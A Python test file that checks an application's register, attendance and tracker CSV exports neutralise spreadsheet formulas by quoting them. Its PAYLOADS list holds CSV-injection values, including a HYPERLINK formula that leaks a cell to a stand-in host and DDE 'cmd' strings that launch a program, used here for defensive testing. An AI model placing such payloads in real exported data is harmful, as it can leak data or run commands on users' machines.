"""Every CSV export neutralises spreadsheet formulas through one rule (issue 17: the register export did not)."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path

from app.commands import people as commands
from app.domain import Person, Tier
from app.export.actions_export import TrackerRow, spreadsheet_safe, tracker_csv_bytes
from app.export.attendance_export import attendance_csv_bytes
from app.services.attendance_report import AttendanceFigure, AttendanceReport
from app.storage import Store

PAYLOADS = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _live(cell: str) -> bool:
    """A cell a spreadsheet would evaluate."""
    return spreadsheet_safe(cell) != cell


def test_the_register_csv_export_leaves_no_formula_live(tmp_path: Path) -> None:
    store = Store.open(tmp_path / "q.db")
    body = store.ensure_body("Board")
    assert body.id is not None
    commands.add_person(store, Person(None, body.id, "Michael Bracey"))
    header = (
        "Surname\tForename\tPosition\tInterests to Declare\tFinancial Interest\tNon-Financial Professional\t"
        "Non-Financial Personal\tIndirect\tDetails of Interest\tDate From\tDate To\tActions to be taken to mitigate "
        "risk\tDate Declared\n"
    )
    rows = "".join(
        f"Bracey\tMichael\t{p}\tYes\tY\t\t\t\t{p}\t2020\tOngoing\t{p}\t21/11/2022\n".replace("\r", "")
        for p in PAYLOADS
        if "\t" not in p
    )
    commands.import_register_csv(store, body.id, header + rows)
    out = commands.export_register_csv(store, body.id, tmp_path / "register.csv")
    cells = [cell for row in csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"))) for cell in row]
    assert sum(cell.startswith("'") for cell in cells) >= 12  # every payload cell, quoted as text
    assert [cell for cell in cells if _live(cell)] == []
    store.close()


def test_the_one_rule_quotes_every_formula_start() -> None:
    assert all(spreadsheet_safe(p).startswith("'") for p in PAYLOADS)
    assert spreadsheet_safe("- a bullet") == "- a bullet" and spreadsheet_safe("Noted.") == "Noted."


def test_the_attendance_and_tracker_csv_exports_leave_no_formula_live() -> None:
    """The other two CSV exports, through the same one path: every cell, headers and notes included."""
    figures = tuple(
        AttendanceFigure(n, payload, payload, Tier.MEMBER, None, None, 1, 2, 0, True)
        for n, payload in enumerate(PAYLOADS)
    )
    report = AttendanceReport("Board", date(2023, 4, 1), date(2024, 3, 31), (), figures, True)
    tracker = [
        TrackerRow(str(n), date(2023, 9, 29), payload, payload, payload, None, payload, "red", payload)
        for n, payload in enumerate(PAYLOADS)
    ]
    for data in (attendance_csv_bytes(report), tracker_csv_bytes(tracker)):
        cells = [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]
        assert sum(cell.startswith("'") for cell in cells) >= 2 * len(PAYLOADS)
        assert [cell for cell in cells if _live(cell)] == []
